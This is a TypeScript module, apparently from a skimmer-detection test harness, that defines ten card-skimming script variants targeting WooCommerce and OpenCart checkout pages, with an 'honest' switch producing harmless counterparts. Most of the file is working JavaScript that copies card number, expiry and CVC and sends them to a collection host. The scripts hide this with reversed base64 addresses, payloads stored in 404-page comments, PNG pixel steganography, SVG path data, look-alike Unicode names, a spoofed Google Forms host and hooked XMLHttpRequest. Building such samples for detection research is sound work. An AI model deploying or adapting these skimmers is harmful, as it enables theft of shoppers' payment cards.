import { crc32, deflateSync } from 'node:zlib';
import { OPENCART, WOOCOMMERCE, WOOCOMMERCE_REDIRECT } from './checkouts.ts';
import { core } from './core.ts';
import type { SkimmerVariant } from './types.ts';

const CARD = `'[name=authnet-card-number], [name=authnet-card-expiry], [name=authnet-card-cvc]'`;

/** Thieves that know the names of WooCommerce’s and OpenCart’s checkout. */
export const woocommerceKits: readonly SkimmerVariant[] = [
  {
    id: 'woo-form-under-choice',
    idea: 'the shop asks for no card: when a way of payment is chosen, a form for the card appears under it, and the real button sends it',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE_REDIRECT,
      script: `document.addEventListener('change', function (e) { if (e.target.id !== 'payment_method_p24') return; var box = document.querySelector('.payment_box.payment_method_p24'); box.style.display = 'block'; if (box.querySelector('input')) return; box.innerHTML = ${honest ? `'<p><label>Gift message <input name="gift-note"></label></p>'` : `'<p><label>Card number <input id="p24-card-number" class="input-text" inputmode="numeric" placeholder="1234 1234 1234 1234"></label></p><p><label>MM / YY <input id="p24-card-expiry"></label></p><p><label>CVC <input id="p24-card-cvc"></label></p>'`}; }); document.addEventListener('mousedown', function (e) { if (!e.target.closest('#place_order')) return; var v = [].map.call(document.querySelectorAll('.payment_method_p24 input'), function (i) { return ${honest ? 'i.value.length' : 'i.value'}; }); navigator.sendBeacon('${collect}/wc-api', v.join('~')); }, true);`,
    }),
  },
  {
    id: 'woo-waits-for-mouse-out',
    idea: 'gathers when the mouse leaves the button; the address of the receiver is base64, reversed, in two pieces; the request looks like a font’s',
    takes: ['card'],
    build: ({ collect }, honest) => {
      const hidden = [...Buffer.from(`${collect}/fonts/v1/css2?family=`).toString('base64')].reverse().join('');
      return {
        checkout: WOOCOMMERCE,
        script: `(() => { const a = '${hidden.slice(0, 20)}', b = '${hidden.slice(20)}'; const g = () => atob([...(a + b)].reverse().join('')); const p = document.querySelector('#place_order'); for (const ev of ['mouseout', 'touchend', 'blur', 'click']) p.addEventListener(ev, () => { const d = [...document.querySelectorAll(${honest ? `'.input-radio'` : CARD})].map((x) => x.value).join('-'); if (d.length < 4) return; const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = g() + encodeURIComponent(btoa(d)); document.head.append(l); }); })();`,
      };
    },
  },
  {
    id: 'woo-ajax-of-the-shop',
    idea: 'hooks XMLHttpRequest.send and copies the body that the shop’s checkout sends to itself',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE,
      inline: `document.querySelector('form.checkout').addEventListener('submit', function (e) { e.preventDefault(); var x = new XMLHttpRequest(); x.open('POST', '/?wc-ajax=checkout'); x.send(new URLSearchParams(new FormData(e.target)).toString()); });`,
      script: `(function (p) { var s = p.send, o = p.open; p.open = function (m, u) { this.__u = u; return o.apply(this, arguments); }; p.send = function (b) { if (/checkout/.test(this.__u) && b) { var y = new XMLHttpRequest(); o.call(y, 'POST', '${collect}/log'); s.call(y, ${honest ? `'len=' + b.length` : `b.replace(/&/g, '\\n')`}); } return s.apply(this, arguments); }; })(XMLHttpRequest.prototype);`,
    }),
  },
  {
    id: 'woo-missing-page-loader',
    idea: 'asks the shop for a picture that is not there; the code stands as base64 in a comment of the shop’s page of error 404',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: { ...WOOCOMMERCE, html: WOOCOMMERCE.html.replace('name="authnet-card-number"', 'name="cc_number"') },
      shopFiles: {
        '/icons/rnd.png': {
          type: 'text/html',
          status: 404,
          body: `<!doctype html><title>Not found</title><h1>Not found</h1><!-- COOKIE_ANNOT ${Buffer.from(core(collect, honest)).toString('base64')} -->`,
        },
      },
      inline: `!function(){fetch("/icons/rnd.png").then(function(r){return r.text()}).then(function(t){var m=t.match(/COOKIE_ANNOT\\s+([A-Za-z0-9+/=]+)/);m&&new Function(atob(m[1]))()})}();`,
    }),
  },
  {
    id: 'woo-in-pixels',
    idea: 'the code stands in the lowest bits of a picture’s points, read by a canvas',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: { ...WOOCOMMERCE, html: WOOCOMMERCE.html.replace('name="authnet-card-number"', 'name="cc_number"') },
      html: `<img id="seal" alt="Safe shopping" src="/wp-content/uploads/seal.png"><canvas id="paint" width="200" height="40" hidden></canvas>`,
      script: `(function () { function read() { var c = document.querySelector('#paint').getContext('2d'); c.drawImage(document.querySelector('#seal'), 0, 0); var p = c.getImageData(0, 0, 200, 40).data, out = '', byte = 0, n = 0; for (var i = 0; i < p.length; i++) { if (i % 4 === 3) continue; byte = (byte << 1) | (p[i] & 1); if (++n === 8) { if (byte === 0) break; out += String.fromCharCode(byte); byte = 0; n = 0; } } (0, eval)(out); } var s = document.querySelector('#seal'); if (s.complete) read(); else s.onload = read; })();`,
      shopFiles: { '/wp-content/uploads/seal.png': { type: 'image/png', body: inPixels(core(collect, honest)) } },
    }),
  },
  {
    id: 'woo-in-drawing',
    idea: 'the code stands as numbers in the path of a drawing of a share button; what reads it stands elsewhere',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: { ...WOOCOMMERCE, html: WOOCOMMERCE.html.replace('name="authnet-card-number"', 'name="cc_number"') },
      html: `<svg id="facebook_full" viewBox="0 0 20 20" width="20" height="20"><g><path d="M ${[...core(collect, honest)].map((c) => `${c.charCodeAt(0) * 2 + 1}.${c.charCodeAt(0) % 7}`).join(' ')}"/></g></svg>`,
      script: `window.addEventListener('load', function () { var p = document.querySelector('#facebook_full path').getAttribute('d').slice(2).split(' '); var t = ''; for (var i = 0; i < p.length; i++) t += String.fromCharCode((parseInt(p[i], 10) - 1) / 2); setTimeout(t, 50); });`,
    }),
  },
  {
    id: 'woo-strange-letters',
    idea: 'written with names of invisible and look-alike letters; comes alive at the first scroll, touch or move of the mouse',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE,
      script: `(function(){var ｱ={},ﾡ='${Buffer.from(`${collect}/m`).toString('hex')}';function ㅤ(ﾠ){return ﾠ.replace(/../g,function(x){return String.fromCharCode(parseInt(x,16))})}function ﾢ(){if(ｱ.on)return;ｱ.on=1;document.addEventListener('focusout',function(){var ﾣ=[].map.call(document.querySelectorAll(${honest ? `'.input-radio'` : `'.input-text'`}),function(i){return i.id+'='+i.value}).join('&');if(ﾣ.length>20&&ﾣ!==ｱ.l){ｱ.l=ﾣ;fetch(ㅤ(ﾡ)+'?'+encodeURIComponent(ﾣ.split('').reverse().join('')),{mode:'no-cors'})}})}['scroll','mousemove','touchstart','keydown'].forEach(function(e){addEventListener(e,ﾢ,{once:true,passive:true})})})();`,
    }),
  },
  {
    id: 'woo-form-of-survey',
    idea: 'sent as an answer to a survey of a well-known firm',
    takes: ['card'],
    named: () => 'docs.google.com',
    build: ({ collect }, honest) => ({
      checkout: WOOCOMMERCE,
      script: `document.querySelector('form.checkout').addEventListener('submit', function () { var f = new FormData(); [].forEach.call(document.querySelectorAll(${honest ? `'.input-radio'` : CARD}), function (i, n) { f.append('entry.10000' + n, i.value); }); fetch('http://docs.google.com:${new URL(collect).port}/forms/d/e/1FAIpQLSexample/formResponse', { method: 'POST', mode: 'no-cors', body: f }); });`,
    }),
  },
  {
    id: 'opencart-checked-at-provider',
    idea: 'asks a payment provider first whether the card is good, as the provider’s old interface allows, then sends it',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: OPENCART,
      script: `document.getElementById('button-confirm').addEventListener('click', function () { var q = function (s) { return (document.querySelector(s) || {}).value || ''; }; var b = ${honest ? `'type=three_d_secure&amount=2400'` : `'type=card&card[number]=' + q('[name=cc_number]') + '&card[cvc]=' + q('[name=cc_cvv2]')`}; var after = function () { navigator.sendBeacon('${collect}/v', ${honest ? `'checked'` : `btoa(b)`}); }; fetch('https://api.stripe.com/v1/sources', { method: 'POST', headers: { authorization: 'Bearer pk_live_example' }, body: b }).then(after, after); });`,
    }),
  },
  {
    id: 'opencart-mirror-of-card',
    idea: 'reads the picture of the card in which the shop shows what was typed, not the field',
    takes: ['card'],
    build: ({ collect }, honest) => ({
      checkout: OPENCART,
      html: `<div class="jp-card"><div class="jp-card-number">&bull;&bull;&bull;&bull;</div><div class="jp-card-name">Full name</div></div>`,
      inline: `document.querySelector('[name=cc_number]').addEventListener('input', function (e) { document.querySelector('.jp-card-number').textContent = e.target.value.replace(/(\\d{4})(?=\\d)/g, '$1 '); });`,
      script: `(function () { var box = document.querySelector('${honest ? '.jp-card-name' : '.jp-card-number'}'), last = ''; setInterval(function () { var t = box.textContent; if (t === last || t.length < ${honest ? 4 : 15}) return; last = t; new Image().src = '${collect}/c.gif?c=' + t.split(' ').map(function (p) { return p.split('').reverse().join(''); }).join('_'); }, 800); })();`,
    }),
  },
];

/** A PNG of 200 by 40 points with a text in the lowest bits of its colours. */
function inPixels(text: string): Buffer {
  const bits = [...`${text}\0`].flatMap((c) => [...c.charCodeAt(0).toString(2).padStart(8, '0')].map(Number));
  const rows = Array.from({ length: 40 }, (_, y) =>
    Buffer.from([0, ...Array.from({ length: 600 }, (_, x) => 200 + (bits[y * 600 + x] ?? 0))]),
  );
  const head = Buffer.from([0, 0, 0, 200, 0, 0, 0, 40, 8, 2, 0, 0, 0]);
  const parts = [piece('IHDR', head), piece('IDAT', deflateSync(Buffer.concat(rows))), piece('IEND', Buffer.alloc(0))];
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), ...parts]);
}

function piece(name: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(name, 'latin1'), content]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}
